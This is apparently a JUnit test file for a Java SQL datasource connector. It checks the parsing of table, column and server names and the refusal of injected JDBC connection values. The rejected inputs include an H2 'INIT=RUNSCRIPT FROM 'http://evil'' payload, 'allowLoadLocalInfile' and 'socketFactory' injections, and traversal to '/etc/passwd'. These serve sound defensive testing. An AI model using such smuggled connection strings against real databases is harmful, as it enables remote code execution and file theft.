package org.sallyport.datasource.sql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vertx.core.json.JsonObject;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.sallyport.datasource.settings.Settings;
import org.sallyport.datasource.spi.SourceCode;
import org.sallyport.datasource.spi.SourceException;
import org.sallyport.datasource.sql.engine.ServerAddress;
import org.sallyport.datasource.sql.table.PropertyName;
import org.sallyport.datasource.sql.table.QualifiedName;

class NamesTest {

    @ParameterizedTest
    @CsvSource({
        "orders,public,orders",
        "s.orders,s,orders",
        "[s].[orders],s,orders",
        "[a.b].[c]]d],a.b,c]d",
        "s.[x y],s,x y",
        "[x],public,x",
    })
    void readsTableNames(String text, String schema, String name) {
        QualifiedName table = QualifiedName.parse(text, "public").orElseThrow();
        assertEquals(new QualifiedName(schema, name), table);
        assertEquals(Optional.of(table), QualifiedName.parse(table.bracketed(), "other"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                ".",
                "a.",
                ".a",
                "a.b.c",
                "[a",
                "[]",
                "[a]b",
                "a]",
                "a[b",
                "[a]]",
                "[a\0]",
                "[a].",
                "[a]..[b]"
            })
    void refusesTextsThatAreNoTableNames(String text) {
        assertEquals(Optional.empty(), QualifiedName.parse(text, "public"));
    }

    @Test
    void noTablePassesForOneOfAnotherSchema() {
        assertEquals("public.orders", new QualifiedName("public", "orders").resource());
        assertNotEquals(new QualifiedName("a.b", "c").resource(), new QualifiedName("a", "b.c").resource());
        assertEquals("[public.x].y", new QualifiedName("public.x", "y").resource());
        assertEquals("a.[[b]]]", new QualifiedName("a", "[b]").resource());
    }

    @ParameterizedTest
    @CsvSource({
        "total,total",
        "order date,order_x0020_date",
        "1st,_x0031_st",
        "a_x0020_b,a_x005f_x0020_b",
        "_id,_id",
        "größe,größe",
        "a\"b,a_x0022_b",
    })
    void columnsHaveIdentifiers(String column, String property) {
        assertEquals(property, PropertyName.of(column));
    }

    @ParameterizedTest
    @CsvSource({
        "DB1.Corp,db1.corp:5432",
        "db1:1,db1:1",
        "[FD00:0:0::5],[fd00::5]:5432",
        "[::1]:77,[::1]:77",
        "10.0.0.1,10.0.0.1:5432",
    })
    void readsServers(String text, String canonical) {
        assertEquals(canonical, ServerAddress.parse(text, 5432).orElseThrow().toString());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "a b",
                "a/b",
                "a:0",
                "a:65536",
                "a:x",
                "a:",
                "[::1",
                "[x]",
                "::1",
                "127.1",
                "2130706433",
                "0x7f.1",
                "/var/run",
                "a;b",
                "a@b",
                "[fe80::1%eth0]",
                "-a",
                "a..b",
                "a?x=1"
            })
    void refusesTextsThatAreNoServers(String text) {
        assertEquals(Optional.empty(), ServerAddress.parse(text, 5432));
    }

    private static JsonObject parameters(String engine, String database) {
        return new JsonObject().put("engine", engine).put("server", "Host.Corp").put("database", database);
    }

    private static String target(JsonObject parameters) {
        return new SqlConnector()
                .target(Settings.ofJson("parameters", parameters))
                .toString();
    }

    @Test
    void targetsAreCanonical() {
        assertEquals("postgresql://host.corp:5432/sales", target(parameters("postgresql", "sales")));
        assertEquals("postgresql://host.corp:5432/a%2Fb%20%C3%BC%3B", target(parameters("postgresql", "a/b ü;")));
        assertEquals("h2://host.corp:9092/mem:x", target(parameters("h2", "mem:x")));
        assertEquals("h2://host.corp:9092/~/a/b", target(parameters("h2", "~/a/b")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x;INIT=RUNSCRIPT FROM 'http://evil'",
                "x;TRACE_LEVEL_FILE=3",
                "../x",
                "a/../b",
                "/etc/x",
                "file:x",
                "zip:x",
                "mem:",
                "x\\;y",
                "x?y",
                "x y",
                "nio:x",
                "mem:a;b",
                "x\n",
                "tcp://other/x"
            })
    void nothingIsSmuggledIntoH2sUrl(String database) {
        SourceException refused = assertThrows(SourceException.class, () -> target(parameters("h2", database)));
        assertEquals(SourceCode.INVALID_PARAMETERS, refused.code());
    }

    @Test
    void filesHaveTargetsWithoutAHost() {
        JsonObject file = new JsonObject().put("engine", "sqlite").put("database", "/srv/my data/app.db");
        assertEquals("sqlite:///srv/my%20data/app.db", target(file));
        assertEquals(
                "duckdb:///C:/data/app.duckdb",
                target(new JsonObject().put("engine", "duckdb").put("database", "C:/data/app.duckdb")));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "app.db",
                "./app.db",
                "/srv/../etc/passwd",
                "/srv/./app.db",
                "/srv//app.db",
                "/srv/app.db/",
                "//host/share/app.db",
                "/srv/app.db?open_mode=6",
                "/srv/app.db;access_mode=x",
                "/srv/a#b",
                "\\\\host\\share",
                ":memory:",
                "/srv/:resource:x",
                "file:/srv/app.db",
                "/srv/a*",
                "/srv/a%2e",
                "/srv/a'b",
                "/srv/a\nb",
                "/"
            })
    void nothingIsSmuggledIntoFiles(String database) {
        for (String engine : List.of("sqlite", "duckdb")) {
            JsonObject file = new JsonObject().put("engine", engine).put("database", database);
            SourceException refused = assertThrows(SourceException.class, () -> target(file), database);
            assertEquals(SourceCode.INVALID_PARAMETERS, refused.code());
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x?allowLoadLocalInfile=true",
                "x?socketFactory=java.lang.Object",
                "x:sslConnection=false;",
                "x;traceFile=/tmp/x;",
                "x/y",
                "@//elsewhere:1521/x",
                "(DESCRIPTION=(ADDRESS=(HOST=x)))",
                "x y",
                "../x",
                "x&y=z",
                ""
            })
    void nothingIsSmuggledIntoUrls(String database) {
        for (String engine : List.of("oracle", "db2")) {
            SourceException refused = assertThrows(
                    SourceException.class, () -> target(parameters(engine, database)), engine + " " + database);
            assertEquals(SourceCode.INVALID_PARAMETERS, refused.code());
        }
        JsonObject any = parameters("jdbc", database).put("driver", "x").put("server", "h:1");
        assertThrows(SourceException.class, () -> target(any));
    }

    @Test
    void noConnectionNamesAUrlAPropertyOrAFolderOfItsOwn() {
        for (String name : List.of("url", "properties", "options", "init", "socketFactory")) {
            for (String engine : List.of("postgresql", "mysql", "mariadb", "sqlserver", "oracle", "db2", "h2")) {
                JsonObject more = parameters(engine, "x").put(name, "y");
                assertEquals(
                        SourceCode.INVALID_PARAMETERS,
                        assertThrows(SourceException.class, () -> target(more)).code());
            }
        }
        for (String driver : List.of("../x", "X", "a/b", "", ".", "a.b")) {
            JsonObject any = parameters("jdbc", "d").put("driver", driver).put("server", "h:1");
            assertThrows(SourceException.class, () -> target(any), driver);
        }
        JsonObject named = parameters("jdbc", "d").put("driver", "click-house").put("server", "h:8123");
        assertEquals("jdbc+click-house://h:8123/d", target(named));
        assertThrows(SourceException.class, () -> target(named.copy().put("server", "h")), "the port must be told");
    }

    @Test
    void allProblemsOfParametersAreTold() {
        JsonObject wrong = new JsonObject()
                .put("engine", "access")
                .put("server", "a b")
                .put("tls", "sometimes")
                .put("pageSize", -1)
                .put("url", "jdbc:x");
        String told = assertThrows(SourceException.class, () -> target(wrong)).safeMessage();
        for (String name : List.of("engine", "server", "database", "tls", "pageSize", "url")) {
            assertTrue(told.contains(name + ":"), told);
        }
    }
}
